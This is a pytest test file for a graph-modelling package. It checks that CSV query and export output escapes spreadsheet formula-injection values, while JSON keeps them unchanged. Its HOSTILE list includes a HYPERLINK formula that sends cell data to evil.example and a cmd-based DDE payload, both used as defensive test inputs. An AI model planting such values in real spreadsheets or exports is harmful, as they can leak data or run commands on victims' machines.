"""CSV output cannot smuggle a formula into a spreadsheet; JSON output keeps values as they are."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from graphmodel.api import load_package
from graphmodel.cli import app
from graphmodel.export import to_networkx, write_graph
from graphmodel.output import spreadsheet_safe, to_csv, to_json
from graphmodel.stores.base import Result, Store
from graphmodel.stores.embedded import EmbeddedStore

FIXTURES = Path(__file__).parent / "fixtures"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1",
]
HARMLESS = ["-3", "-2.5", "+7", "plain", "a=b", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_cells_read_as_formulas_are_escaped(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_csv_and_json_of_one_result() -> None:
    hostile = HOSTILE[:-1]  # a bare CR does not survive CSV with "\n" line ends, escaped or not
    result = Result(["=name", "n"], [(h, i) for i, h in enumerate(hostile)] + [("-3", -3)])
    rows = list(csv.reader(io.StringIO(to_csv(result), newline="")))
    assert rows[0] == ["'=name", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in hostile] + ["-3"]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(hostile))] + ["-3"]
    assert [r["=name"] for r in json.loads(to_json(result))] == [*hostile, "-3"]  # JSON: values unchanged


def _url(store: Store) -> str:
    return f"embedded:{store.path}" if isinstance(store, EmbeddedStore) else os.environ["NEO4J_URI"]


def test_query_and_export_csv_escape_hostile_names(store: Store, tmp_path: Path) -> None:
    """A package whose names are formulas: ``query --format csv`` and ``export csv`` escape them, JSON does not."""
    package = tmp_path / "mini"
    shutil.copytree(FIXTURES / "mini", package)
    lines = (package / "villages.csv").read_text(encoding="utf-8").splitlines()
    rows = [lines[0]]
    for index, hostile in enumerate(HOSTILE[:4]):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="").writerow([f"v-h{index}", hostile, "", "Shan", "Lu", "Yunnan"])
        rows.append(buffer.getvalue())
    (package / "villages.csv").write_text("\n".join(rows + lines[1:]) + "\n", encoding="utf-8")
    load_package(store, package)
    query = tmp_path / "villages.cypher"
    query.write_text(
        "// name: villages\n// description: Village names.\nMATCH (v:Village) RETURN v.id AS id, v.name AS name ORDER BY id\n",
        encoding="utf-8",
    )
    runner = CliRunner()
    out = runner.invoke(app, ["query", str(query), "--store", _url(store), "--format", "csv"])
    assert out.exit_code == 0, out.output
    names = {r["id"]: r["name"] for r in csv.DictReader(io.StringIO(out.stdout))}
    assert [names[f"v-h{i}"] for i in range(4)] == ["'" + h for h in HOSTILE[:4]]
    assert names["v-1"] == "Upper Village"
    out = runner.invoke(app, ["query", str(query), "--store", _url(store), "--format", "json"])
    assert out.exit_code == 0, out.output
    names = {r["id"]: r["name"] for r in json.loads(out.stdout)}
    assert [names[f"v-h{i}"] for i in range(4)] == HOSTILE[:4]
    files = write_graph(to_networkx(store), tmp_path / "export", "csv")
    text = files[0].read_text(encoding="utf-8")
    exported = {r["id"]: r["name"] for r in csv.DictReader(io.StringIO(text))}
    assert [exported[f"v-h{i}"] for i in range(4)] == ["'" + h for h in HOSTILE[:4]]
